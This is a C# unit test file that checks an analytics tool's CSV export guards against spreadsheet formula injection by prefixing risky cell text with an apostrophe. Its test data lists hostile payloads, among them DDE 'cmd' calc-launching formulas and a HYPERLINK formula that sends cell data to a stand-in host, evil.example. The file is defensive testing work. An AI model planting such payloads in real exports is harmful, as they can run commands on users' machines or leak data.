using Analytics.Domain.Output;
using Analytics.Metrics;
using Analytics.Reports.Export;
using Sylvan.Data.Csv;
using static Analytics.Metrics.Tests.Fixtures;

namespace Analytics.Reports.Tests.Export;

/// <summary>Issue 13, item 7: text a spreadsheet would evaluate never reaches a CSV cell as it came.</summary>
public class FormulaInjectionTests
{
    public static TheoryData<string> Hostile =>
    [
        "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\t=1+1", "\r=1+1", "＝1+1", "－1+1",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Formula_like_text_gets_a_leading_apostrophe(string text)
    {
        Assert.True(SpreadsheetText.IsFormulaLike(text));
        Assert.Equal("'" + text, SpreadsheetText.Neutralise(text));
    }

    [Theory]
    [InlineData("A1")]
    [InlineData("-12")]
    [InlineData("+3.5")]
    [InlineData("GW-2026-001")]
    [InlineData("受理超时")]
    [InlineData("")]
    public void Ordinary_text_and_signed_numbers_are_left_alone(string text)
    {
        Assert.False(SpreadsheetText.IsFormulaLike(text));
        Assert.Equal(text, SpreadsheetText.Neutralise(text));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Applications_csv_neutralises_the_application_id_and_stays_parseable(string id)
    {
        var r = Run([App(id, "2022-03-07 09:00", After("2022-03-07 09:00", 8))]);
        using var w = new StringWriter(System.Globalization.CultureInfo.InvariantCulture);
        ApplicationsCsvWriter.Write(r, r.Applications, w);
        using var csv = CsvDataReader.Create(new StringReader(w.ToString()));
        Assert.True(csv.Read());
        Assert.Equal(ApplicationsCsvWriter.Columns.Count, csv.FieldCount);
        Assert.Equal("application_id", csv.GetName(0));
        Assert.Equal("'" + id, csv.GetString(0));
        Assert.Equal("8", csv.GetString(csv.GetOrdinal("whole_process_days")));
        Assert.False(csv.Read());
    }

    [Fact]
    public void Negative_figures_stay_numbers_in_the_applications_csv()
    {
        // In progress far beyond its limit: working_days_left is negative and must stay a number.
        var open = App("A2", "2022-03-07 09:00", null);
        var r = Run([open], asOf: "2022-06-30 12:00");
        using var w = new StringWriter(System.Globalization.CultureInfo.InvariantCulture);
        ApplicationsCsvWriter.Write(r, r.Applications, w);
        using var csv = CsvDataReader.Create(new StringReader(w.ToString()));
        Assert.True(csv.Read());
        var left = csv.GetString(csv.GetOrdinal("working_days_left"));
        Assert.StartsWith("-", left, StringComparison.Ordinal);
        Assert.True(int.TryParse(left, System.Globalization.NumberStyles.AllowLeadingSign, System.Globalization.CultureInfo.InvariantCulture, out _));
    }

    [Fact]
    public void Findings_csv_neutralises_every_text_column()
    {
        var finding = new Finding
        {
            Utility = "=u",
            ApplicationId = "+A1",
            County = "@c",
            TargetId = "-x",
            Code = "-x",
            Clause = "=1",
            TargetTitle = "=HYPERLINK(\"x\")",
            Evidence = new TargetTitleEvidence("=cmd|' /C calc'!A0, more"),
            On = D("2022-03-17"),
            Value = -3m,
        };
        using var w = new StringWriter(System.Globalization.CultureInfo.InvariantCulture);
        FindingsCsvWriter.Write([finding], w);
        using var csv = CsvDataReader.Create(new StringReader(w.ToString()));
        Assert.True(csv.Read());
        Assert.Equal(["'=u", "'+A1", "'@c", "'-x", "'=1", "'=HYPERLINK(\"x\")"], Enumerable.Range(0, 6).Select(csv.GetString));
        Assert.Equal("2022-03-17", csv.GetString(6));
        Assert.Equal("-3", csv.GetString(7));
        Assert.Equal("'=cmd|' /C calc'!A0, more", csv.GetString(9));
    }
}
